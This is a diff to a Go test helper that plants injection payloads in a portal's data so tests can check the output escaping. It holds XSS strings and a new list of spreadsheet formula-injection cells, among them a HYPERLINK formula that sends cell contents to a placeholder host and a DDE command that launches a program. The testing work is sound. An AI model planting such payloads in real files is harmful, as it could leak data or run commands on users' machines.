@@ -1,12 +1,13 @@
 // Package hostile owns the hostile data the tests feed the portal: a copy
 // of a data directory with script, event-handler and javascript: payloads
-// written into every free-text field that still passes `portal check`.
+// (Inject), or spreadsheet formulas (InjectFormulas), written into every
+// free-text field that still passes `portal check`.
 //
-// Inject finds the fields by trying: it appends the payload to every
-// string value in every file, runs load and check, and takes the payload
-// out again wherever check objects (ids, codes, references, dates, web
-// addresses), until the data is valid. What remains are exactly the fields
-// a member of staff can write any text into.
+// Both find the fields by trying: they write a payload into every string
+// value in every file, run load and check, and take the payload out again
+// wherever check objects (ids, codes, references, dates, web addresses),
+// until the data is valid. What remains are exactly the fields a member of
+// staff can write any text into.
 package hostile
 
 import (
@@ -33,15 +34,71 @@ const Payload = `<script>alert("xss-1")</script><img src=x onerror=alert("xss-2"
 // Marker is a string every payload contains: search for it.
 const Marker = "xss"
 
+// Formulas are what InjectFormulas writes at the start of the free-text
+// fields, one per field in turn: cells a spreadsheet would run as a
+// formula (CSV injection, OWASP), with the formula character in ASCII,
+// full width and small form, after a tab, a line break, a space, a
+// no-break space, an ideographic space or a zero-width space, and a text
+// that starts with an apostrophe. Each is followed by a space and the
+// field's own text.
+var Formulas = []string{
+	`=HYPERLINK("http://x.invalid/?d="&A1,"klikk")`,
+	`+1+1`,
+	`-2+3`,
+	`@SUM(A1:A9)`,
+	"\t=1+1",
+	"\r=1+1",
+	"\n=1+1",
+	`＝1+1`,
+	`＋1+1`,
+	`－1+1`,
+	`＠SUM(A1)`,
+	`﹦1+1`,
+	` =1+1`,
+	"\u00a0=1+1",
+	"\u3000＝1+1",
+	"\u200b=1+1",
+	`=cmd|' /C calc'!A0`,
+	`'=1+1`,
+}
+
+// tomlString is s as the inside of a TOML basic string.
+var tomlString = strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\t", `\t`, "\r", `\r`, "\n", `\n`, "\u00a0", `\u00A0`, "\u3000", `\u3000`, "\u200b", `\u200B`).Replace
+
 // tomlPayload is Payload as the inside of a TOML basic string.
-var tomlPayload = strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\t", `\t`).Replace(Payload)
+var tomlPayload = tomlString(Payload)
 
 // single is a key = "…" line with a one-line basic string.
 var single = regexp.MustCompile(`^(\s*[A-Za-z0-9_]+\s*=\s*")((?:[^"\\]|\\.)*)("\s*(?:#.*)?)$`)
 
-// Inject copies the data directory src to dst with the payload in every
-// free-text field and returns how many fields per key name got it.
+// Inject copies the data directory src to dst with Payload appended to
+// every free-text field and returns how many fields per key name got it.
 func Inject(src, dst string) (map[string]int, error) {
+	return inject(src, dst, func(string) string { return tomlPayload }, false)
+}
+
+// InjectFormulas copies the data directory src to dst with one of Formulas
+// at the start of every free-text field and returns how many fields per
+// key name got one. The formulas are handed out in turn to the values in
+// the order first met, and a value met again gets the same formula, so
+// that a code and the references to it stay equal.
+func InjectFormulas(src, dst string) (map[string]int, error) {
+	seen := map[string]int{}
+	return inject(src, dst, func(value string) string {
+		n, ok := seen[value]
+		if !ok {
+			n = len(seen)
+			seen[value] = n
+		}
+		return tomlString(Formulas[n%len(Formulas)])
+	}, true)
+}
+
+// inject copies src to dst and writes payload(value) (already a TOML
+// string's inside) into every string value: at its start when first, else
+// at its end. value is the value as written in the file (the inside of a
+// one-line string, or the last line of a multi-line one).
+func inject(src, dst string, payload func(value string) string, first bool) (map[string]int, error) {
 	if err := os.CopyFS(dst, os.DirFS(src)); err != nil {
 		return nil, err
 	}
@@ -50,6 +107,7 @@ func Inject(src, dst string) (map[string]int, error) {
 		file  string
 		start int // 0-based line of the key
 		line  int // 0-based line of the value's end
+		edit  int // 0-based line the payload is written into
 		orig  string
 		key   string
 	}
@@ -69,8 +127,15 @@ func Inject(src, dst string) (map[string]int, error) {
 			case open >= 0:
 				if j := strings.Index(l, `"""`); j >= 0 {
 					key := strings.TrimSpace(strings.SplitN(lines[open], "=", 2)[0])
-					fields = append(fields, field{p, open, i, l, key})
-					lines[i] = l[:j] + " " + tomlPayload + l[j:]
+					if first {
+						// Right after the opening quotes, so the newline
+						// after them is kept as part of the text.
+						fields = append(fields, field{p, open, i, open, lines[open], key})
+						lines[open] += payload(l) + " "
+					} else {
+						fields = append(fields, field{p, open, i, i, l, key})
+						lines[i] = l[:j] + " " + payload(l) + l[j:]
+					}
 					open = -1
 				}
 			case strings.HasSuffix(strings.TrimSpace(l), `= """`):
@@ -78,8 +143,12 @@ func Inject(src, dst string) (map[string]int, error) {
 			default:
 				if m := single.FindStringSubmatch(l); m != nil {
 					key := strings.TrimSpace(strings.SplitN(m[1], "=", 2)[0])
-					fields = append(fields, field{p, i, i, l, key})
-					lines[i] = m[1] + m[2] + " " + tomlPayload + m[3]
+					fields = append(fields, field{p, i, i, i, l, key})
+					if first {
+						lines[i] = m[1] + payload(m[2]) + " " + m[2] + m[3]
+					} else {
+						lines[i] = m[1] + m[2] + " " + payload(m[2]) + m[3]
+					}
 				}
 			}
 		}
@@ -135,7 +204,7 @@ func Inject(src, dst string) (map[string]int, error) {
 				continue
 			}
 			if lines[f.line] || lines[f.start] {
-				files[f.file][f.line] = f.orig
+				files[f.file][f.edit] = f.orig
 				kept[i] = false
 				reverted++
 			}
@@ -146,7 +215,7 @@ func Inject(src, dst string) (map[string]int, error) {
 			// key by key, starting with keys check is known to read.
 			for i, f := range fields {
 				if bad[f.file] != nil && kept[i] && !freeText[f.key] {
-					files[f.file][f.line] = f.orig
+					files[f.file][f.edit] = f.orig
 					kept[i] = false
 					reverted++
 				}
